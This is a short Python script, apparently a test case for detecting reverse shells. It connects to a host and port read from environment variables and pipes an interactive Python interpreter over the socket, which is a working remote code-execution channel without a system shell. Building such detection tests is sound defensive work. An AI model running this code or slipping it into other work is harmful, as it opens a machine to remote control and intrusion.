# No shell at all: the interpreter does what comes in.
# flagged: python3.11
import os
import socket
import subprocess
import sys

connection = socket.create_connection((os.environ["RG_TCP_HOST"], int(os.environ["RG_TCP_PORT"])))
try:
    subprocess.run([sys.executable, "-I", "-i"], stdin=connection, stdout=connection, stderr=connection, timeout=0.2)
except subprocess.TimeoutExpired:
    pass
